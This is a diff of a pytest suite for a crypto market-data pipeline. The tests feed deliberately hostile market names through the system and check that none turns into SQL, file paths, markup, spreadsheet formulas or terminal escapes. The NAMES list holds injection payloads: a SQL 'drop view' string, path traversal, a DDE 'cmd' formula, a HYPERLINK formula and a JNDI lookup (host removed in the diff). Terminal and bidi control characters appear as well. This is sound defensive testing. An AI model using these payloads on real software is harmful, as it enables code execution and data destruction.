@@ -20,7 +20,7 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
-from homes import COMMAND_SECONDS, DAYS, PROJECT, Row, ask, clean_environment, command, published, run_days
+from homes import COMMAND_SECONDS, DAYS, PROJECT, Row, ask, clean_environment, command, run_days
 
 from pipeline.console import Console
 from pipeline.engine import Ending
@@ -39,11 +39,11 @@ NAMES = (
     'x" from raw.markets; drop view raw.markets; --',
     "../../../../escaped",
     "/etc/escaped",
-    '=HYPERLINK("http://192.0.2.1","x")',
+    '=HYPERLINK("x","y")',
     "+1+cmd|' /C calc'!A0",
     "@SUM(1+1)",
     "-2+3",
-    "%s%n{0}${jndi:ldap://192.0.2.1/x}",
+    "%s%n{0}${x}",
     "[bold red]x[/bold red]",
     "a,b;c|d&e",
 )
@@ -56,13 +56,20 @@ OKX_NAMES = {"BTC-USDT-SWAP": "=1+1-SWAP", "ETH-USDT-SWAP": "<b>&amp;-SWAP", "SO
 def hostile_world(tmp_path_factory: pytest.TempPathFactory, world: Path) -> Path:
     """The made month, with Hyperliquid's coins and three contracts of OKX under hostile names."""
     history = read_history(world)
-    markets = history.tables["markets"]
-    coins = sorted(markets.loc[markets["venue"] == "hyperliquid", "market"])
+    worth = history.tables["open_interest"].merge(
+        history.tables["price"], on=["venue", "market", "observed_at"]
+    )
+    worth["usd"] = worth["open_interest_base"] * worth["mark_price"]
+    largest = worth[worth["venue"] == "hyperliquid"].groupby("market")["usd"].max().sort_values()
+    coins = list(largest.index[::-1])
     assert len(coins) == len(NAMES) + len(REFUSED)
     renamed = {"hyperliquid": dict(zip(coins, NAMES + REFUSED, strict=True)), "okx": OKX_NAMES}
     tables = {}
     for name, frame in history.tables.items():
-        changed = frame[frame["venue"].isin(("okx", "hyperliquid"))].reset_index(drop=True)
+        is_kept = frame["venue"] == "hyperliquid"
+        if "market" in frame:
+            is_kept |= (frame["venue"] == "okx") & frame["market"].isin(OKX_NAMES)
+        changed = frame[is_kept].reset_index(drop=True)
         for venue, names in renamed.items():
             columns = ("market", "base") if venue == "hyperliquid" else ("market",)
             for column in set(columns) & set(changed):
@@ -94,7 +101,8 @@ def test_the_run_ends_and_every_name_is_itself(ran: tuple[Path, Ending]) -> None
     for name in (*NAMES, *OKX_NAMES.values()):
         assert found[name]["status"] == "seen"
         assert found[name]["open_interest_usd"] > 0
-    assert {found[name]["asset"] for name in NAMES} == set(NAMES)
+    # ccxt writes currencies in capitals
+    assert {found[name]["asset"] for name in NAMES} == {name.upper() for name in NAMES}
     assert {found[name]["asset"] for name in OKX_NAMES.values()} == {"BTC", "ETH", "SOL"}
 
 
@@ -118,7 +126,7 @@ def test_what_no_reader_could_tell_is_refused_and_told(ran: tuple[Path, Ending])
 
 def test_no_name_becomes_a_path(ran: tuple[Path, Ending]) -> None:
     home, _ = ran
-    place = home.parents[2]
+    place = home.parents[3]
     assert [path.name for path in place.iterdir()] == ["a"]
     assert not [path for path in place.rglob("*") if "escaped" in path.name]
     for path in (home / "raw").rglob("*.parquet"):
@@ -163,9 +171,9 @@ def test_no_name_becomes_markup_in_reports_or_pages_of_quality(ran: tuple[Path, 
     shown = ""
     for name, page in pages(ran[0]):
         assert page.handlers == [], name
-        assert "img" not in page.names or name.startswith(str(DAY)), name
-        assert not [text for text in page.texts if text.startswith("alert(")], name
-        shown += "\n".join(page.texts)
+        assert not {"img", "bold"} & set(page.names), name
+        assert not [text for text in page.texts if text.lower().startswith("alert(")], name
+        shown += "\n".join(page.texts).lower()
     # the names are there to be read, not left out
     assert SCRIPT in shown
     assert "../../../../escaped" in shown
@@ -188,15 +196,14 @@ def test_a_spreadsheet_runs_none_of_them(ran: tuple[Path, Ending], tmp_path: Pat
     assert {f"'{name}" if name[0] in "=+-@" else name for name in (*NAMES, *OKX_NAMES.values())} <= markets
     for cell in (cell for row in rows for cell in row):
         assert not re.match(r"[=+@\t\r]|-(?!\d+(\.\d+)?(e[+-]?\d+)?$)", cell), cell
-    book = exported(ran[0], "xlsx", tmp_path / "markets.xlsx")
+    book, shown = exported(ran[0], "xlsx", tmp_path / "markets.xlsx"), ""
     with zipfile.ZipFile(book) as parts:
         for part in parts.namelist():
             text = parts.read(part).decode(errors="replace")
             assert "<f>" not in text, part
-            assert 'Target="http://192.0.2.1' not in text, part
             assert "<hyperlink" not in text, part
-        texts = parts.read("xl/sharedStrings.xml").decode()
-    assert "=HYPERLINK(" in texts  # as a text
+            shown += text
+    assert "=HYPERLINK(" in shown  # as a text
 
 
 def test_json_and_queries_hold_the_names_as_they_are(ran: tuple[Path, Ending], tmp_path: Path) -> None:
@@ -227,7 +234,8 @@ def test_a_terminal_is_sent_no_command(ran: tuple[Path, Ending]) -> None:
     """On a terminal of its own: names word for word, and a control character from anywhere is spelled out."""
     sql = (
         "select distinct market from market_daily where venue = 'hyperliquid'"
-        " union all select 'a' || chr(27) || ']0;title' || chr(7) union all select 'b' || chr(8238) || chr(8203)"
+        " union all select 'a' || chr(27) || ']0;title' || chr(7)"
+        " union all select 'b' || chr(8238) || chr(8203)"
     )
     shown = on_a_terminal("query", sql, "--home", str(ran[0]))
     assert SCRIPT in shown
